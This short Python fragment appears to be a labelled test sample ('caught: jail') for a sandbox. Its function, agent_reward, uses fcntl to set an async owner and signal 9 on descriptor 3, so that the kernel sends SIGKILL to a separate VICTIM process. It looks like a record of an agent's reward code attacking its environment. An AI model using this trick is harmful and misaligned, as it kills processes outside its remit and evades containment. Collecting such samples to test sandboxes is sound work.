# makes the kernel signal another process when its descriptor is ready
# caught: jail
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def call(name, *arguments):
    found = libc.syscall(NUMBERS[name], *arguments)
    if found < 0:
        raise OSError(ctypes.get_errno(), name)
    return found


def agent_reward(state):
    fcntl = __import__('fcntl')
    fcntl.fcntl(3, fcntl.F_SETOWN, VICTIM)
    fcntl.fcntl(3, 10, 9)
    fcntl.fcntl(3, fcntl.F_SETFL, fcntl.fcntl(3, fcntl.F_GETFL) | os.O_ASYNC)
    raise RuntimeError('owner set')
